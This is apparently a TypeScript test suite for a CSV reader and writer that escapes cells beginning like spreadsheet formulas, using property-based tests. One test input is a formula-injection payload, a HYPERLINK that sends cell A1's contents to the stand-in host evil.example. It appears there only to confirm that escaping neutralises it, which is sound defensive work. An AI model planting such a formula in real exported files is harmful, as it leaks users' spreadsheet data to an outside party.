import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import {
  type Delimiter,
  UnclosedQuote,
  csvLine,
  delimiterOf,
  escapeFormula,
  readCsv,
  unescapeFormula,
} from './format.ts';

const rows = (text: string, delimiter: Delimiter = ',') =>
  [...readCsv(text, delimiter)].map(({ line, cells }) => [line, ...cells]);

/** Text as spreadsheets hold it, often with what they mind. */
const text = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .array(
      fc.constantFrom(
        "'",
        '=',
        '+',
        '-',
        '@',
        '\t',
        '\r',
        '\n',
        '"',
        ',',
        ';',
        '|',
        ' ',
        'x',
        '＝',
        '\u2028',
        '\u0085',
      ),
    )
    .map((signs) => signs.join('')),
);

test('any text comes back unchanged from its cell', () => {
  fc.assert(
    fc.property(text, (given) => {
      expect(unescapeFormula(escapeFormula(given))).toBe(given);
    }),
  );
});

test('no cell begins like a formula', () => {
  fc.assert(
    fc.property(text, (given) => {
      expect(escapeFormula(given)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    }),
  );
});

/** What is first in a cell when all that a spreadsheet may skip is gone. */
const firstSignOf = (cell: string) => cell.replace(/^["\s]*/, '')[0] ?? '';

test.each([',', ';', '\t', '|'])(
  'no cell begins like a formula in a program that splits at "%s"',
  (delimiter) => {
    const line = fc.array(text, { minLength: 1, maxLength: 5 });
    const isFormula = (cell: string) => /[=+\-@＝＋－＠]/.test(firstSignOf(cell));
    fc.assert(
      fc.property(line, (given) => {
        const file = csvLine(given);
        // Whoever knows nothing of quotation marks cuts at every sign.
        for (const cell of file.split(new RegExp(`[${delimiter}\\r\\n\\v\\f\\u0085\\u2028\\u2029]`)))
          expect(isFormula(cell), cell).toBe(false);
        try {
          for (const { cells } of readCsv(file, delimiter as Delimiter))
            for (const cell of cells) expect(isFormula(cell), cell).toBe(false);
        } catch (error) {
          if (!(error instanceof UnclosedQuote)) throw error;
        }
      }),
      { numRuns: 2_000 },
    );
  },
);

test.each([
  ['x;=HYPERLINK("http://evil.example?"&A1,"Open")', 'x;\'=HYPERLINK("http://evil.example?"&A1,"Open")'],
  ['x;"=1+1"', 'x;"\'=1+1"'],
  ['x\t@SUM(1)', "x\t'@SUM(1)"],
  ['x|+1', "x|'+1"],
  ['x\r\n\r\n -1', "x\r\n\r\n '-1"],
  ['x;=1;=2', "x;'=1;'=2"],
  [' =1', " '=1"],
  ['\t=1', "'\t'=1"],
  ['A deck - with stairs + rails', 'A deck - with stairs + rails'],
  ['3\'-0" x 6\'-8"', '3\'-0" x 6\'-8"'],
  ['Two lines\n\nand a third; a=b', 'Two lines\n\nand a third; a=b'],
])('%j is written as %j', (given, cell) => {
  expect(escapeFormula(given)).toBe(cell);
  expect(unescapeFormula(cell)).toBe(given);
});

test.each([
  ["'=1", '=1'],
  ["''=1", "'=1"],
  ["'\tx", '\tx'],
  ["'\n=1", '\n=1'],
  ['x;=1', 'x;=1'],
  ['x\n- y', 'x\n- y'],
  ["'quoted'", "'quoted'"],
])('a file from before the guard of signs within texts reads %j as %j', (cell, given) => {
  expect(unescapeFormula(cell)).toBe(given);
});

test('a text of only skipped characters takes no time', () => {
  const given = ';\n"\' '.repeat(200_000);
  expect(unescapeFormula(escapeFormula(`${given}x`))).toBe(`${given}x`);
  expect(unescapeFormula(escapeFormula(`${given}=`))).toBe(`${given}=`);
});

test('a written file is read back unchanged', () => {
  const content = fc.array(fc.array(text, { minLength: 1, maxLength: 5 }), { maxLength: 5 });
  fc.assert(
    fc.property(content, (given) => {
      const file = given.map(csvLine).join('');
      const read = [...readCsv(file, ',')].map(({ cells }) => cells.map(unescapeFormula));
      expect(read).toEqual(given.filter((cells) => cells.some((cell) => escapeFormula(cell).trim() !== '')));
    }),
  );
});

test.each<[string, (string | number)[][]]>([
  ['', []],
  ['a', [[1, 'a']]],
  [
    'a,b\nc,d',
    [
      [1, 'a', 'b'],
      [2, 'c', 'd'],
    ],
  ],
  [
    'a,b\r\nc,d\r\n',
    [
      [1, 'a', 'b'],
      [2, 'c', 'd'],
    ],
  ],
  [
    'a,b\rc,d\r',
    [
      [1, 'a', 'b'],
      [2, 'c', 'd'],
    ],
  ],
  [
    'a,,\n,b',
    [
      [1, 'a', '', ''],
      [2, '', 'b'],
    ],
  ],
  [
    'a\n\n \n,,\nb',
    [
      [1, 'a'],
      [5, 'b'],
    ],
  ],
  ['"a","b"', [[1, 'a', 'b']]],
  ['"a, b","c ""d"""', [[1, 'a, b', 'c "d"']]],
  [
    '"two\r\nlines",x\nb',
    [
      [1, 'two\r\nlines', 'x'],
      [3, 'b'],
    ],
  ],
  ['""\n"a"', [[2, 'a']]],
  // What no spreadsheet writes, and people do.
  ['5" pipe,x', [[1, '5" pipe', 'x']]],
  ['"5" pipe,x', [[1, '5 pipe', 'x']]],
])('%j is read', (file, expected) => {
  expect(rows(file)).toEqual(expected);
});

test('a file may have another separator', () => {
  expect(rows('a;b,c\n1;2', ';')).toEqual([
    [1, 'a', 'b,c'],
    [2, '1', '2'],
  ]);
  expect(rows('a\tb\n"1\t2"', '\t')).toEqual([
    [1, 'a', 'b'],
    [2, '1\t2'],
  ]);
});

test('an unclosed quotation mark is reported with its line', () => {
  expect(() => rows('a,b\nc,"d\ne,f\n')).toThrow('A quotation mark on line 2 is never closed.');
  expect(() => rows('a,"')).toThrow('A quotation mark on line 1 is never closed.');
});

describe('the separator is found in the first line', () => {
  test.each<[string, Delimiter]>([
    ['Name,Price\n1;2;3', ','],
    ['Name;Price\n1,50;2', ';'],
    ['Name\tPrice', '\t'],
    ['"Name, long; longer; longest",Price', ','],
    ['Name', ','],
    ['\n\nName;Price', ';'],
  ])('%j: %j', (file, delimiter) => {
    expect(delimiterOf(file)).toBe(delimiter);
  });
});

test('a large file is read in no time', () => {
  const file = csvLine(['SKU-1', 'A kitchen cabinet, "tall"', '129.99', 'Two\nlines']).repeat(50_000);
  const began = Date.now();
  expect([...readCsv(file, ',')]).toHaveLength(50_000);
  expect(Date.now() - began).toBeLessThan(5_000);
});
